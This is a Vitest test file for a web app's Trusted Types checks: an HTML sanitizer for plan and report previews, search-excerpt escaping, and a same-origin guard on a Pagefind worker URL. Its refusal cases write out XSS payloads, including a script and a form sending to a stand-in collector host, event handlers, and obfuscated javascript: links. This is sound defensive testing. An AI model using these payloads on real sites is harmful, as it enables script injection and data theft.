import { afterEach, describe, expect, it, vi } from 'vitest';
import { readdirSync, readFileSync } from 'node:fs';
import { checkDocumentHtml, checkPagefindWorkerUrl, safeExcerpt } from '../../src/security/trusted-types.ts';
import { validateAnswers } from '../../src/engine/answers/validate.ts';
import { planOutput } from '../../src/islands/questionnaire/plan-output.ts';
import { renderHtml } from '../../src/engine/export/html.ts';
import { buildAfterActionReport, buildComplianceReport } from '../../src/engine/review/reports.ts';
import { FULL_REVIEW, hostileReview } from '../engine/review/full-review.ts';

const FIXTURES = 'test/fixtures/answers';
/** Every valid answers fixture (invalid.json is not), hostile.json's injected text included. */
const answers = readdirSync(FIXTURES)
  .filter((f) => f.endsWith('.json'))
  .flatMap((file) => {
    const result = validateAnswers(JSON.parse(readFileSync(`${FIXTURES}/${file}`, 'utf8')));
    return result.ok ? [[file, result.answers] as const] : [];
  });

describe('checkDocumentHtml (the plan and report previews)', () => {
  it('has the hostile fixture among the answers it checks', () => {
    expect(answers.map(([file]) => file)).toContain('hostile.json');
  });

  it.each(answers)('accepts the plan preview the engine renders for %s', (_file, value) => {
    const { html } = planOutput(value, '2026-11-27');
    expect(checkDocumentHtml(html)).toBe(html);
  });

  it('accepts the after-action and compliance reports, hostile text included', () => {
    for (const review of [FULL_REVIEW, hostileReview()]) {
      for (const doc of [buildAfterActionReport(review, { asOf: '2025-05-01' }), buildComplianceReport(review)]) {
        const html = renderHtml(doc);
        expect(checkDocumentHtml(html)).toBe(html);
      }
    }
  });

  it.each([
    ['a script', '<p>Plan</p><script>fetch("https://collector.example")</script>'],
    ['an image with a handler', '<p><img src="x" onerror="alert(1)"></p>'],
    ['an event handler on an allowed element', '<p onclick="alert(1)">Plan</p>'],
    ['a style attribute', '<p style="background:url(https://collector.example)">Plan</p>'],
    ['a javascript: link', '<a href="javascript:alert(1)">Plan</a>'],
    ['a javascript: link hidden by an entity', '<a href="javascript&#58;alert(1)">Plan</a>'],
    ['an unquoted attribute', '<a href=javascript:alert(1)>Plan</a>'],
    ['an iframe', '<iframe srcdoc="x"></iframe>'],
    ['an svg', '<svg><script>alert(1)</script></svg>'],
    ['a comment', '<p>Plan</p><!-- <script> -->'],
    ['a form', '<form action="https://collector.example"><button>Send</button></form>'],
  ])('refuses %s', (_what, html) => {
    expect(() => checkDocumentHtml(html)).toThrow(TypeError);
  });
});

describe('safeExcerpt (the search excerpt)', () => {
  it("keeps Pagefind's marks and escapes everything else", () => {
    expect(safeExcerpt('the <mark>four-factor</mark> <img src=x onerror=alert(1)> "test" & more')).toBe(
      'the <mark>four-factor</mark> &lt;img src=x onerror=alert(1)&gt; &quot;test&quot; &amp; more',
    );
  });
});

describe('checkPagefindWorkerUrl (the default policy)', () => {
  afterEach(() => vi.unstubAllGlobals());

  it("accepts this origin's Pagefind worker, absolute or relative", () => {
    vi.stubGlobal('location', new URL('https://breachline.example/search/?q=x'));
    expect(checkPagefindWorkerUrl('https://breachline.example/pagefind/pagefind-worker.js')).toBe('https://breachline.example/pagefind/pagefind-worker.js');
    expect(checkPagefindWorkerUrl('/pagefind/pagefind-worker.js')).toBe('/pagefind/pagefind-worker.js');
  });

  it.each([
    'https://collector.example/pagefind/pagefind-worker.js',
    '/pagefind/pagefind.js',
    '/sw.js',
    'data:text/javascript,postMessage(1)',
    'blob:https://breachline.example/0000',
  ])('refuses %s', (url) => {
    vi.stubGlobal('location', new URL('https://breachline.example/search/?q=x'));
    expect(() => checkPagefindWorkerUrl(url)).toThrow(TypeError);
  });
});
